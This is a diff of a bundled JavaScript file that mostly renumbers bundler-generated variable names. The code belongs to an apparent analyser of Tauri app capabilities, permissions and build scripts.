     for (let move = last[state] ?? NOWHERE; move !== NOWHERE; move = before2[move] ?? NOWHERE)
       reach2(Math.floor(move / alphabet.size), (distances[state] ?? 0) + 1);
   return distances;
@@ -23602,14 +26537,14 @@ function oneForEach({ alphabet, next: next2, accepting }, groups3, work) {
 function withFewestClasses({ alphabet, next: next2, accepting }, work) {
   const { size } = alphabet;
   work.spend(next2.length);
-  const isSame7 = (a3, b5) => {
+  const isSame8 = (a3, b5) => {
     for (let row = 0; row < next2.length; row += size) if (next2[row + a3] !== next2[row + b5]) return false;
     return true;
   };
   const kept = [];
   const numbers = Int32Array.from({ length: size }, (_3, its) => {
-    const known6 = kept.findIndex((other) => isSame7(other, its));
-    return known6 >= 0 ? known6 : kept.push(its) - 1;
+    const known7 = kept.findIndex((other) => isSame8(other, its));
+    return known7 >= 0 ? known7 : kept.push(its) - 1;
   });
   if (kept.length === size) return { alphabet, next: next2, accepting };
   const rows = new Int32Array(kept.length * accepting.length);
@@ -23714,12 +26649,12 @@ var Numbers = class {
   all = [];
   #known = /* @__PURE__ */ new Map();
   #keyOf;
-  constructor(keyOf8) {
-    this.#keyOf = keyOf8;
+  constructor(keyOf9) {
+    this.#keyOf = keyOf9;
   }
   of(thing) {
-    const known6 = this.#known.get(thing);
-    if (known6 !== void 0) return known6;
+    const known7 = this.#known.get(thing);
+    if (known7 !== void 0) return known7;
     const key = this.#keyOf(thing);
     const number = this.#known.get(key) ?? this.all.push(thing) - 1;
     this.#known.set(thing, number).set(key, number);
@@ -23735,10 +26670,10 @@ function automatonOf(expression, work) {
   return determinised(nfaOf(expression, work), work);
 }
 function ownLanguage(expression) {
-  let known6;
+  let known7;
   const made2 = () => {
-    known6 ??= languageOf(expression, new Work(MOST_FOR_OWN));
-    return known6;
+    known7 ??= languageOf(expression, new Work(MOST_FOR_OWN));
+    return known7;
   };
   return {
     get alphabet() {
@@ -23753,7 +26688,7 @@ function ownLanguage(expression) {
   };
 }
 var MOST_FOR_OWN = 1e7;
-var NOTHING2 = ownLanguage(NO_TEXT);
+var NOTHING3 = ownLanguage(NO_TEXT);
 var EVERYTHING = ownLanguage(ANY_TEXT);
 
 // src/language/glob.ts
@@ -23820,11 +26755,11 @@ function expressionOf(token2, options) {
 }
 var SLASH3 = oneOf("/");
 var DOT = oneOf(".");
-function inEitherCase(text2) {
-  const known6 = EITHER_CASE.get(text2);
-  if (known6 !== void 0) return known6;
-  const made2 = character(inBothCases(oneOf(text2)));
-  if (text2 <= "") EITHER_CASE.set(text2, made2);
+function inEitherCase(text3) {
+  const known7 = EITHER_CASE.get(text3);
+  if (known7 !== void 0) return known7;
+  const made2 = character(inBothCases(oneOf(text3)));
+  if (text3 <= "") EITHER_CASE.set(text3, made2);
   return made2;
 }
 var EITHER_CASE = /* @__PURE__ */ new Map();
@@ -23853,7 +26788,7 @@ function membersOfRange([from, to], foldCase) {
   const written6 = between2(from, to);
   if (!foldCase) return written6;
   if (from === to) return inBothCases(written6);
-  const isLetter = (text2) => /^[A-Za-z]$/.test(text2);
+  const isLetter = (text3) => /^[A-Za-z]$/.test(text3);
   if (!isLetter(from) || !isLetter(to)) return written6;
   return either(written6, inBothCases(between2(from.toLowerCase(), to.toLowerCase())));
 }
@@ -23950,7 +26885,7 @@ function isEntry({ source }, called3, groups3) {
   if (called3.kind === "macro") return false;
   const { tokens } = source;
   const words3 = attributesBefore(source, called3.keyword).flatMap(
-    ({ from, to }) => tokens.slice(from, to).map(({ text: text2 }) => text2)
+    ({ from, to }) => tokens.slice(from, to).map(({ text: text3 }) => text3)
   );
   const owner = groups3.find(({ item }) => item?.kind === "owner")?.item;
   const isOfTrait = owner?.kind === "owner" && tokens.slice(owner.keyword, owner.body.from).some((token2) => isKeyword(token2, "for"));
@@ -23961,8 +26896,8 @@ function mayCall(called3, of2, { file: file2, index }) {
   const [before2, next2] = [tokens[index - 1], tokens[index + 1]];
   if (isKeyword(before2, "fn") || isImport(tokens, index)) return false;
   if (called3.kind === "macro") return isMark(next2, "!") && !isMark(before2, "!");
-  const isInside = file2 === of2 && index > called3.keyword && index < called3.body.to;
-  if (isInside || isMark(next2, "!")) return false;
+  const isInside2 = file2 === of2 && index > called3.keyword && index < called3.body.to;
+  if (isInside2 || isMark(next2, "!")) return false;
   const isCalled = isOpen(next2, "(") || isMark(next2, "::");
   if (isMark(before2, ".")) return called3.owner !== null && isCalled;
   const qualifier = isMark(before2, "::") ? tokens[index - 2]?.text ?? "" : null;
@@ -23990,7 +26925,7 @@ var FIXED = new Set(
     " "
   )
 );
-var DEEPEST9 = 3;
+var DEEPEST12 = 3;
 function isFixed(index, file2, { from, to }, depth = 0) {
   const { tokens } = file2.source;
   for (let at2 = from; at2 < to; at2 += 1) {
@@ -23999,7 +26934,7 @@ function isFixed(index, file2, { from, to }, depth = 0) {
     const isCalled = isOpen(tokens[at2 + 1], "(") && !isMark(tokens[at2 - 1], ".");
     const isConstant = /^[A-Z][A-Z0-9_]*$/.test(token2.text) || isMark(tokens[at2 + 1], "::");
     if (isConstant) continue;
-    if (!isCalled || depth >= DEEPEST9 || !isFixedFunction(index, token2.text, depth)) return false;
+    if (!isCalled || depth >= DEEPEST12 || !isFixedFunction(index, token2.text, depth)) return false;
   }
   return true;
 }
@@ -24018,20 +26953,20 @@ function isInCondition({ source: { tokens }, groupsAt }, at2) {
 }
 
 // src/tauri/rust/flow-groups.ts
-var NOTHING3 = { parts: [], names: [] };
+var NOTHING4 = { parts: [], names: [] };
 var LONGEST_HEADER = 400;
 function decidingIn(file2, open, child, isFixed2) {
   const { tokens } = file2.source;
   const all = [ofGroup(file2, open, child), chained(tokens, open, child)];
   if (isOpen(tokens[open], "{")) all.push(left(file2, open, child, isFixed2));
-  return { parts: all.flatMap(({ parts }) => parts), names: all.flatMap(({ names: names2 }) => names2) };
+  return { parts: all.flatMap(({ parts }) => parts), names: all.flatMap(({ names: names3 }) => names3) };
 }
 function ofGroup(file2, open, child) {
   const { tokens } = file2.source;
   const bang = isMark(tokens[open - 1], "!") ? open - 1 : -1;
   if (bang >= 0) return { parts: [], names: [tokens[bang - 1]?.text ?? ""] };
   if (isOpen(tokens[open], "(")) return ofCall(file2, open, child);
-  return isOpen(tokens[open], "{") ? ofBlock(tokens, open, child) : NOTHING3;
+  return isOpen(tokens[open], "{") ? ofBlock(tokens, open, child) : NOTHING4;
 }
 var MAYBE = new Set(
   "and_then filter filter_map find_map flat_map fold for_each inspect map map_or map_or_else or_else retain then try_fold try_for_each unwrap_or_else".split(
@@ -24042,21 +26977,21 @@ function ofCall({ source }, open, child) {
   const { tokens } = source;
   const given2 = argumentsAt(source, open).find(({ from, to }) => from <= child && child < to);
   const name = tokens[open - 1];
-  if (given2 === void 0 || name?.kind !== "word") return NOTHING3;
+  if (given2 === void 0 || name?.kind !== "word") return NOTHING4;
   const first = isKeyword(tokens[given2.from], "move") ? given2.from + 1 : given2.from;
-  if (!isMark(tokens[first], "|")) return NOTHING3;
+  if (!isMark(tokens[first], "|")) return NOTHING4;
   const isMethod2 = isMark(tokens[open - 2], ".");
-  if (isMethod2) return MAYBE.has(name.text) ? { parts: [receiverOf(source, open - 1)], names: [] } : NOTHING3;
+  if (isMethod2) return MAYBE.has(name.text) ? { parts: [receiverOf(source, open - 1)], names: [] } : NOTHING4;
   return { parts: [], names: [name.text] };
 }
 var CONTROL2 = /* @__PURE__ */ new Set(["else", "for", "if", "match", "while"]);
 function ofBlock(tokens, open, child) {
   const header = headerOf(tokens, open);
   const word2 = tokens[header.from]?.text;
-  if (header.from === open) return NOTHING3;
+  if (header.from === open) return NOTHING4;
   if (word2 === "else") return { parts: chainOf3(tokens, header.from), names: [] };
   if (word2 === "match") return { parts: [header, armAt(tokens, open, child)], names: [] };
-  if (word2 === "for") return overList(tokens, header) ? NOTHING3 : { parts: [header], names: [] };
+  if (word2 === "for") return overList(tokens, header) ? NOTHING4 : { parts: [header], names: [] };
   const isElse = isKeyword(tokens[header.from - 1], "else");
   const before2 = isElse ? chainOf3(tokens, header.from - 1) : [];
   return isCertain(tokens, header) ? { parts: before2, names: [] } : { parts: [...before2, header], names: [] };
@@ -24122,7 +27057,7 @@ function chained(tokens, open, child) {
     if ([";", ",", "=>"].some((mark) => isMark(token2, mark)) || isOpen(token2, "{"))
       [from, isChained] = [after(tokens, at2), false];
   }
-  return isChained && from < child ? { parts: [{ from, to: child }], names: [] } : NOTHING3;
+  return isChained && from < child ? { parts: [{ from, to: child }], names: [] } : NOTHING4;
 }
 function isValue(token2) {
   const isKnown3 = token2?.kind === "word" || token2?.kind === "close" || token2?.kind === "text";
@@ -24212,9 +27147,9 @@ var Reach = class {
   at(file2, index) {
     const { own, holder } = this.#step(file2, index);
     if (holder === null || this.#isStraight(holder)) return own;
-    const known6 = this.#known.get(holder.name) ?? this.#conditionsOf(holder);
-    this.#known.set(holder.name, known6);
-    return [...own, ...known6];
+    const known7 = this.#known.get(holder.name) ?? this.#conditionsOf(holder);
+    this.#known.set(holder.name, known7);
+    return [...own, ...known7];
   }
   #step(file2, index) {
     const groups3 = file2.groupsAt(index);
@@ -24227,8 +27162,8 @@ var Reach = class {
   }
   /** Where a function is called. */
   #calls({ name, file: file2, called: called3 }) {
-    const known6 = this.#steps.get(name);
-    if (known6 !== void 0) return known6;
+    const known7 = this.#steps.get(name);
+    if (known7 !== void 0) return known7;
     const calls = mentionsIn2(this.#code, called3.name).filter((each) => mayCall(called3, file2, each));
     const steps = calls.map((each) => this.#step(each.file, each.index));
     this.#steps.set(name, steps);
@@ -24268,12 +27203,12 @@ var Reach = class {
     const attributes2 = [...attributesOfStatement(source, at2)];
     const found9 = groups3.flatMap(({ open, item }) => {
       work.spend((source.tokens[open]?.partner ?? open) - open);
-      const { parts, names: names2 } = decidingIn(file2, open, child, (part) => isFixed(index, file2, part));
+      const { parts, names: names3 } = decidingIn(file2, open, child, (part) => isFixed(index, file2, part));
       attributes2.push(
         ...item === null ? attributesOfStatement(source, open) : attributesBefore(source, item.keyword)
       );
       child = open;
-      return [...parts.map((part) => this.#named(file2, part)), ...this.#given(names2)];
+      return [...parts.map((part) => this.#named(file2, part)), ...this.#given(names3)];
     });
     const conditions = attributes2.filter(({ from }) => isKeyword(source.tokens[from], "cfg"));
     return [...found9, ...this.#builds(file2, conditions)];
@@ -24290,9 +27225,9 @@ var Reach = class {
     return conditionSliceOf(this.#project, file2, part, isFixed(this.#code.index, file2, part));
   }
   /** Macros and functions of the app that get the code as an argument, whatever they do with it. */
-  #given(names2) {
+  #given(names3) {
     const { index } = this.#code;
-    return names2.flatMap((name) => {
+    return names3.flatMap((name) => {
       const own = index.declared(name).map(({ file: file2, part }) => writtenOf(file2.source, part));
       return own.length === 0 ? [] : [wordsOf(name, own)];
     });
@@ -24303,12 +27238,12 @@ var Reach = class {
 var STANDARD2 = /* @__PURE__ */ new Set(["alloc", "core", "std"]);
 function isOfStandardMacros(project, expression) {
   const paths3 = macrosIn2(expression);
-  const names2 = [...new Set(paths3.map((path) => path.at(-1) ?? ""))];
+  const names3 = [...new Set(paths3.map((path) => path.at(-1) ?? ""))];
   if (paths3.some(([first, ...rest2]) => rest2.length > 0 && !STANDARD2.has(first ?? ""))) return false;
   return rustOfApp(project).files.every(({ file: file2 }) => {
     const { macros, imports } = referencesIn(file2).names;
-    const imported2 = imports.filter(({ as }) => names2.includes(as));
-    return !names2.some((name) => macros.has(name)) && imported2.every(({ path: [first] }) => STANDARD2.has(first ?? ""));
+    const imported2 = imports.filter(({ as }) => names3.includes(as));
+    return !names3.some((name) => macros.has(name)) && imported2.every(({ path: [first] }) => STANDARD2.has(first ?? ""));
   });
 }
 function macrosIn2(expression) {
@@ -24343,7 +27278,7 @@ function builtCapability(expression, placeOf8) {
         remote.push(...reader.texts(given2));
         break;
       case "permission":
-        permissions.push(...reader.texts(given2).map(({ text: text2, at: at2 }) => ({ id: text2, at: at2, scope: null })));
+        permissions.push(...reader.texts(given2).map(({ text: text3, at: at2 }) => ({ id: text3, at: at2, scope: null })));
         break;
       case "permission_scoped":
         permissions.push(...reader.scoped(given2));
@@ -24381,10 +27316,10 @@ var Arguments = class {
   }
   /** One text, or a list of them. */
   texts([only, ...others]) {
-    const one = textOf4(only);
-    const many2 = one === void 0 ? textsOf(only) : [one];
+    const one2 = textOf5(only);
+    const many2 = one2 === void 0 ? textsOf(only) : [one2];
     if (many2 === void 0 || others.length > 0) return this.#computed([]);
-    return many2.map((text2) => this.#pattern(text2));
+    return many2.map((text3) => this.#pattern(text3));
   }
   boolean([only, ...others]) {
     return only?.kind === "boolean" && others.length === 0 ? only.value : this.#computed(true);
@@ -24392,18 +27327,18 @@ var Arguments = class {
   /** `Target::Windows`, or a list of such names. */
   platforms([only, ...others]) {
     const items = only?.kind === "list" ? only.items : only === void 0 ? [] : [only];
-    const known6 = items.map((item) => {
+    const known7 = items.map((item) => {
       const [type, name] = item.kind === "name" ? item.path.slice(-2) : [];
       return type === "Target" ? PLATFORMS.find((each) => each.toLowerCase() === name?.toLowerCase()) : void 0;
     });
-    return known6.length > 0 && others.length === 0 && known6.every((each) => each !== void 0) ? platformSet(...known6) : this.#computed(EVERY_PLATFORM);
+    return known7.length > 0 && others.length === 0 && known7.every((each) => each !== void 0) ? platformSet(...known7) : this.#computed(EVERY_PLATFORM);
   }
   /** A permission with a scope as lists of texts: `permission_scoped("fs:scope", vec!["/a"], vec![])`. */
   scoped([id, allow2, deny, ...others]) {
-    const name = textOf4(id);
+    const name = textOf5(id);
     if (name === void 0 || others.length > 0) return this.#computed([]);
-    const { text: text2, at: at2 } = this.#pattern(name);
-    return [{ id: text2, at: at2, scope: { allow: this.#entries(allow2), deny: this.#entries(deny) } }];
+    const { text: text3, at: at2 } = this.#pattern(name);
+    return [{ id: text3, at: at2, scope: { allow: this.#entries(allow2), deny: this.#entries(deny) } }];
   }
   #entries(list) {
     const texts = textsOf(list);
@@ -24425,8 +27360,8 @@ function addedCapability(project, argument) {
   if (expression !== written6) return addedCapability(project, { expression, file: file2, index });
   if (expression.kind === "text") return capabilityInCode(file2, expression);
   if (expression.kind === "macro") {
-    const named9 = includedFile(project, file2, expression);
-    return named9 === null ? null : { file: named9 };
+    const named10 = includedFile(project, file2, expression);
+    return named10 === null ? null : { file: named10 };
   }
   const built = isBuilderOfTauri(file2) ? builtCapability(expression, file2.placeOf) : void 0;
   return built === void 0 ? null : { capabilities: [built], gaps: [] };
@@ -24484,13 +27419,13 @@ function typesAt(file2, index) {
 }
 function typesIn({ source: { tokens } }, part) {
   if (part === void 0) return [];
-  const names2 = tokens.slice(part.from, part.to).flatMap(({ kind, text: text2 }) => kind === "word" && /^[A-Z]/.test(text2) ? [text2] : []);
-  return names2.slice(0, 1);
+  const names3 = tokens.slice(part.from, part.to).flatMap(({ kind, text: text3 }) => kind === "word" && /^[A-Z]/.test(text3) ? [text3] : []);
+  return names3.slice(0, 1);
 }
-var known3 = /* @__PURE__ */ new WeakMap();
+var known4 = /* @__PURE__ */ new WeakMap();
 function ownersOf(project, word2) {
-  const words3 = known3.get(project) ?? /* @__PURE__ */ new Map();
-  known3.set(project, words3);
+  const words3 = known4.get(project) ?? /* @__PURE__ */ new Map();
+  known4.set(project, words3);
   const found9 = words3.get(word2) ?? findOwners(project, word2);
   words3.set(word2, found9);
   return found9;
@@ -24535,8 +27470,8 @@ var SETTINGS4 = /* @__PURE__ */ new Set([
 ]);
 function authorityGap(project, mention) {
   const { file: file2, index, word: word2, at: at2 } = mention;
-  const isOther = SHARED.has(word2) && (!isOfTauri(mention) || isOwnMethod(project, mention));
-  if (isImport(file2.source.tokens, index) || isOther) return [];
+  const isOther2 = SHARED.has(word2) && (!isOfTauri(mention) || isOwnMethod(project, mention));
+  if (isImport(file2.source.tokens, index) || isOther2) return [];
   const rests = mention.isInMacro ? allCodeOf(project) : wordsOf(
     statementsAbout(file2, index).map((part) => argumentSliceOf(project, file2.rust.file.path, part))
   );
@@ -24552,7 +27487,7 @@ function isOfTauri({ file: file2, index, word: word2 }) {
   if (word2 === "config_mut" && isMark(tokens[next2], ".") && field2?.kind === "word" && field2.text !== "clone_from")
     return SETTINGS4.has(field2.text) && !isOpen(tokens[next2 + 2], "(");
   return tokens.some(
-    ({ kind, text: text2 }, position) => kind === "word" && CONTEXT2.has(text2) && !isOfOthers(file2, position)
+    ({ kind, text: text3 }, position) => kind === "word" && CONTEXT2.has(text3) && !isOfOthers(file2, position)
   );
 }
 var CONTEXT2 = /* @__PURE__ */ new Set(["Context", "generate_context", "tauri_build_context"]);
@@ -24579,12 +27514,12 @@ function contextAt(project, mention) {
       capabilities: [],
       gaps: [unknown2(mention, "is called by what other code hands over", allCodeOf(project))]
     };
-  const read7 = argumentsAt(mention.file.source, use.open).map(
+  const read9 = argumentsAt(mention.file.source, use.open).map(
     (part, position) => argumentAt(project, mention, part, position)
   );
   return {
-    capabilities: read7.flatMap(({ capabilities }) => capabilities),
-    gaps: read7.flatMap(({ gaps }) => gaps)
+    capabilities: read9.flatMap(({ capabilities }) => capabilities),
+    gaps: read9.flatMap(({ gaps }) => gaps)
   };
 }
 function isOfTauri2(project, { file: { source, items }, index, word: word2 }) {
@@ -24622,12 +27557,12 @@ function argumentAt(project, mention, part, position) {
     if (first?.text === "test" && value.kind === "boolean") return { capabilities: [], gaps: [] };
     if (texts !== void 0) {
       const folder = folderOfRustc(project);
-      const named9 = texts.map((text2) => ({
-        path: folder === null ? null : joined(folder, text2.value),
-        name: text2.value,
-        at: placeOf8(text2.span)
+      const named10 = texts.map((text3) => ({
+        path: folder === null ? null : joined(folder, text3.value),
+        name: text3.value,
+        at: placeOf8(text3.span)
       }));
-      return { capabilities: named9, gaps: [] };
+      return { capabilities: named10, gaps: [] };
     }
   }
   const rests = sliceOf(project, rust.file.path, part);
@@ -24649,18 +27584,18 @@ function holdsVariables({ file: file2 }, open) {
 // src/readers/tauri-acl/resources.ts
 var READS_RESOURCES = /\bresource_dir\b|\bresolve_resource\b|\bBaseDirectory::Resource\b|\$RESOURCE\b/;
 function resourcesRead(project) {
-  const isRead = rustOfApp(project).files.some(({ file: file2 }) => READS_RESOURCES.test(file2.text));
-  if (!isRead) return "";
+  const isRead2 = rustOfApp(project).files.some(({ file: file2 }) => READS_RESOURCES.test(file2.text));
+  if (!isRead2) return "";
   const taken3 = PLATFORMS.flatMap((platform) => {
     const config = project.config(platform);
     return [pick(config, "bundle", "resources"), pick(config, "tauri", "bundle", "resources")].flatMap(
-      entriesOf4
+      entriesOf7
     );
   });
-  const named9 = taken3.map(([from, to]) => wordsOf(from, to, contentAt(project, from)));
-  return wordsOf([...new Set(named9)].sort());
+  const named10 = taken3.map(([from, to]) => wordsOf(from, to, contentAt(project, from)));
+  return wordsOf([...new Set(named10)].sort());
 }
-function entriesOf4(resources) {
+function entriesOf7(resources) {
   if (resources?.kind === "object")
     return [...resources.entries].map(([from, { value }]) => [from, asString(value) ?? ""]);
   return itemsOf(resources).map((item) => [asString(item) ?? "", ""]);
@@ -24680,8 +27615,8 @@ var OF_SCOPES = [
 ];
 var found5 = /* @__PURE__ */ new WeakMap();
 function rustCapabilities(project) {
-  const known6 = found5.get(project);
-  if (known6 !== void 0) return known6;
+  const known7 = found5.get(project);
+  if (known7 !== void 0) return known7;
   const result2 = new CapabilitiesInCode(project).read();
   found5.set(project, result2);
   return result2;
@@ -24782,7 +27717,7 @@ function ownFiles(project, script) {
   const all = [...project.files.values()].filter(({ path }) => isPermissionName(path));
   const standard = all.filter(({ path }) => isAppPermissionFile(path, project.location));
   const within4 = (folder) => ({ path }) => below(inFolder(project.location.root, folder), path) !== void 0;
-  const named9 = (pattern) => {
+  const named10 = (pattern) => {
     const is = pathPattern(pattern, project.location.root);
     if (is === void 0) gaps.push(lostPattern(project, pattern));
     return all.filter(({ path }) => is?.(path) === true);
@@ -24791,17 +27726,17 @@ function ownFiles(project, script) {
   for (const [name, { permissionsPattern: permissionsPattern2 }] of script.plugins) {
     inlined2.set(
       name,
-      permissionsPattern2 === void 0 ? standard.filter(within4(`permissions/${name}`)) : named9(permissionsPattern2)
+      permissionsPattern2 === void 0 ? standard.filter(within4(`permissions/${name}`)) : named10(permissionsPattern2)
     );
   }
   const { commands: commands2, permissionsPattern } = script.app;
   if (permissionsPattern !== void 0) {
     const generated = commands2.length === 0 || isTauri3(project) ? [] : standard.filter(within4("permissions/autogenerated"));
-    return { app: [...generated, ...named9(permissionsPattern)], inlined: inlined2, gaps };
+    return { app: [...generated, ...named10(permissionsPattern)], inlined: inlined2, gaps };
   }
   const others = [...script.plugins.keys(), ...isTauri3(project) ? ["autogenerated"] : []];
-  const isOther = (file2) => others.some((name) => within4(`permissions/${name}`)(file2));
-  return { app: standard.filter((file2) => !isOther(file2)), inlined: inlined2, gaps };
+  const isOther2 = (file2) => others.some((name) => within4(`permissions/${name}`)(file2));
+  return { app: standard.filter((file2) => !isOther2(file2)), inlined: inlined2, gaps };
 }
 function capabilityFiles(project, { capabilitiesPattern }) {
   const all = [...project.files.values()].filter(
@@ -24826,9 +27761,9 @@ function namedByCrate(project, script) {
   const scriptPath2 = buildScriptPath(project);
   const folders = project.pathCrates.map(({ folder }) => inFolder(folder, "permissions"));
   const isOfCrate2 = (path) => isPermissionName(path) && folders.some((folder) => below(folder, path) !== void 0);
-  const { isNamed: isNamed4 } = rustOfApp(project);
+  const { isNamed: isNamed5 } = rustOfApp(project);
   const isRested = isRestedOn(project);
-  return (path) => path === scriptPath2 || isNamed4(path) || isRested(path) || isOfCrate2(path) || files.has(path) || isCapabilityName(path) && patterns3.some((is) => is(path));
+  return (path) => path === scriptPath2 || isNamed5(path) || isRested(path) || isOfCrate2(path) || files.has(path) || isCapabilityName(path) && patterns3.some((is) => is(path));
 }
 function lostPattern(project, pattern) {
   const message = `The build script looks for files at ${code(pattern)}, which is no pattern that stays in this repository: they were not read.`;
@@ -24841,15 +27776,15 @@ function lostPattern(project, pattern) {
 function buildScriptOf(project) {
   const path = buildScriptPath(project);
   const file2 = path === null ? void 0 : project.files.get(path);
-  const named9 = pick(project.manifest, "package", "build");
-  const isList = named9 !== void 0 && named9.kind !== "string" && named9.kind !== "boolean";
-  if (file2 !== void 0 && !isList) return readBuildScript(project, file2);
-  if (named9 === void 0 || named9.kind === "boolean" || asString(named9) === "build.rs") return NO_SCRIPT;
-  const what = named9.kind === "string" ? `is ${code(named9.value)}, which is not here` : "is a list of scripts";
+  const named10 = pick(project.manifest, "package", "build");
+  const isList2 = named10 !== void 0 && named10.kind !== "string" && named10.kind !== "boolean";
+  if (file2 !== void 0 && !isList2) return readBuildScript(project, file2);
+  if (named10 === void 0 || named10.kind === "boolean" || asString(named10) === "build.rs") return NO_SCRIPT;
+  const what = named10.kind === "string" ? `is ${code(named10.value)}, which is not here` : "is a list of scripts";
   const message = `The app's build script ${what}: what it declares of commands and capabilities is not known.`;
   return {
     ...NO_SCRIPT,
-    gaps: [gapAt(named9.at, { kind: "dynamic", rests: wordsOf("build script", plain(named9)), message })]
+    gaps: [gapAt(named10.at, { kind: "dynamic", rests: wordsOf("build script", plain(named10)), message })]
   };
 }
 function buildScriptPath({ manifest: manifest2, location }) {
@@ -24863,7 +27798,7 @@ function activeCapabilities(project, script) {
   const files = capabilitiesIn(found9.files, gaps);
   const added = rustCapabilities(project);
   gaps.push(...added.gaps);
-  const named9 = capabilitiesIn(
+  const named10 = capabilitiesIn(
     namedFiles(project, [...script.capabilityFiles, ...added.atBuild], gaps),
     gaps
   );
@@ -24878,14 +27813,14 @@ function activeCapabilities(project, script) {
   const complained = /* @__PURE__ */ new Set();
   for (const platform of PLATFORMS) {
     for (const [capability, at2] of enabledOn(project.config(platform))) {
-      if (named9.has(capability.identifier)) continue;
+      if (named10.has(capability.identifier)) continue;
       const others = byIdentity.get(capability) ?? [];
       byIdentity.set(capability, [...others, { platforms: platformSet(platform), at: at2 }]);
     }
   }
-  const dormant = [...files.values()].filter((capability) => !byIdentity.has(capability) && !named9.has(capability.identifier)).map((capability) => ({ capability, platforms: capability.platforms, enabledAt: leftOutAt(project) }));
-  for (const capability of named9.values()) byIdentity.set(capability, null);
-  const sorted = [...byIdentity].map(([capability, enabledAt]) => {
+  const dormant = [...files.values()].filter((capability) => !byIdentity.has(capability) && !named10.has(capability.identifier)).map((capability) => ({ capability, platforms: capability.platforms, enabledAt: leftOutAt(project) }));
+  for (const capability of named10.values()) byIdentity.set(capability, null);
+  const sorted2 = [...byIdentity].map(([capability, enabledAt]) => {
     const on3 = enabledAt?.reduce((all, { platforms }) => all | platforms, NO_PLATFORM) ?? EVERY_PLATFORM;
     return { capability, enabledAt, platforms: on3 & capability.platforms };
   }).filter(({ platforms }) => platforms !== NO_PLATFORM).sort((a3, b5) => compareBytes(a3.capability.identifier, b5.capability.identifier));
@@ -24894,7 +27829,7 @@ function activeCapabilities(project, script) {
     platforms: capability.platforms,
     enabledAt: null
   }));
-  return { active: [...sorted, ...last], dormant, gaps };
+  return { active: [...sorted2, ...last], dormant, gaps };
   function enabledOn(config) {
     const listed = pick(config, "app", "security", "capabilities");
     if (listed?.kind !== "array" || listed.items.length === 0) {
@@ -24922,9 +27857,9 @@ function activeCapabilities(project, script) {
   }
   function inline(item) {
     if (!inlineRead.has(item)) {
-      const read7 = readCapability(item);
-      for (const gap3 of read7.gaps) gaps.push(gap3);
-      inlineRead.set(item, read7.capability);
+      const read9 = readCapability(item);
+      for (const gap3 of read9.gaps) gaps.push(gap3);
+      inlineRead.set(item, read9.capability);
     }
     return inlineRead.get(item);
   }
@@ -24936,8 +27871,8 @@ function leftOutAt(project) {
   return list === void 0 ? [] : [{ platforms: NO_PLATFORM, at: list.at }];
 }
 var MOST_CAPABILITIES = 2e3;
-function namedFiles(project, named9, gaps) {
-  return named9.flatMap(({ path, name, at: at2 }) => {
+function namedFiles(project, named10, gaps) {
+  return named10.flatMap(({ path, name, at: at2 }) => {
     const file2 = path === null ? void 0 : project.files.get(path);
     if (file2 !== void 0) return [file2];
     const message = `The capability ${code(name)}, which this line adds, is no file of this repository: what it grants is not known.`;
@@ -24955,13 +27890,13 @@ function capabilitiesIn(files, gaps) {
       gaps.push(gapAt(parsed7.at, { kind: "unparsed", rests: contentOf(file2), message }));
       continue;
     }
-    const read7 = readCapabilityFile(parsed7.value);
-    for (const gap3 of read7.gaps) gaps.push(gap3);
+    const read9 = readCapabilityFile(parsed7.value);
+    for (const gap3 of read9.gaps) gaps.push(gap3);
     for (const { name, at: at2 } of parsed7.value.kind === "array" ? parsed7.duplicates : []) {
       const message = `The key ${code(name)} stands twice in one object of this list of capabilities: the app doesn't build.`;
       gaps.push(gapAt(at2, { kind: "does-not-build", rests: contentOf(file2), message }));
     }
-    for (const capability of read7.capabilities) {
+    for (const capability of read9.capabilities) {
       if (byIdentifier.size >= MOST_CAPABILITIES) {
         const message = `The app has more than ${MOST_CAPABILITIES} capabilities; this one and the rest were not read.`;
         gaps.push(gapAt(capability.at, { kind: "truncated", rests: wordsOf(files.map(contentOf)), message }));
@@ -24994,16 +27929,16 @@ function mayHaveCommands(project) {
 
 // src/catalogue/permission-catalogue.ts
 var import_compare4 = __toESM(require_compare(), 1);
-var import_parse25 = __toESM(require_parse(), 1);
+var import_parse28 = __toESM(require_parse(), 1);
 
 // src/catalogue/listed.ts
 var import_permissions = __toESM(require_permissions(), 1);
 var LISTED = import_permissions.default;
 function unfolded({ each, ...manifest2 }) {
   if (each === void 0) return manifest2;
-  const text2 = JSON.stringify({ p: each.p, s: each.s });
+  const text3 = JSON.stringify({ p: each.p, s: each.s });
   const members2 = each.of.map(
-    (name) => JSON.parse(text2.replaceAll("<dir>", name).replaceAll("<DIR>", name.toUpperCase()))
+    (name) => JSON.parse(text3.replaceAll("<dir>", name).replaceAll("<DIR>", name.toUpperCase()))
   );
   return {
     ...manifest2,
@@ -25023,7 +27958,7 @@ function isCoreKey(key) {
   return key === "core" || key.startsWith("core:") || BEFORE_PREFIX.includes(key);
 }
 function lookUpPermissions(key, version, bound = "exact") {
-  const wanted = (0, import_parse25.default)(version);
+  const wanted = (0, import_parse28.default)(version);
   if (wanted === null || !isCatalogued(key)) return void 0;
   const rows = knownVersions(key);
   let best;
@@ -25047,8 +27982,8 @@ function knownVersions(key) {
   let rows = rowsOf.get(key);
   if (rows === void 0) {
     rows = (LISTED[key] ?? []).flatMap(
-      ([versions, manifest2]) => versions.flatMap((text2) => {
-        const version = (0, import_parse25.default)(text2);
+      ([versions, manifest2]) => versions.flatMap((text3) => {
+        const version = (0, import_parse28.default)(text3);
         return version === null ? [] : [{ version, manifest: manifest2 }];
       })
     ).sort((a3, b5) => (0, import_compare4.default)(a3.version, b5.version));
@@ -25057,12 +27992,12 @@ function knownVersions(key) {
   return rows;
 }
 function manifest(folded4) {
-  let known6 = manifestOf2.get(folded4);
-  if (known6 === void 0) {
-    known6 = catalogued(unfolded(folded4));
-    manifestOf2.set(folded4, known6);
+  let known7 = manifestOf2.get(folded4);
+  if (known7 === void 0) {
+    known7 = catalogued(unfolded(folded4));
+    manifestOf2.set(folded4, known7);
   }
-  return known6;
+  return known7;
 }
 function catalogued({ c: c6, demand, def, p: p4, s: s5 }) {
   const sets = new Map(Object.entries(s5 ?? {}));
@@ -25212,8 +28147,8 @@ function readPermission(item, identifier, path, wrong) {
   const deny = scopeEntries(pick(item, "scope", "deny"), wrong);
   const generated = path.includes("/autogenerated/") ? commandNamedBy(identifier) : void 0;
   return {
-    allow: withGenerated(names(pick(item, "commands", "allow")), generated, "allow"),
-    deny: withGenerated(names(pick(item, "commands", "deny")), generated, "deny"),
+    allow: withGenerated(names2(pick(item, "commands", "allow")), generated, "allow"),
+    deny: withGenerated(names2(pick(item, "commands", "deny")), generated, "deny"),
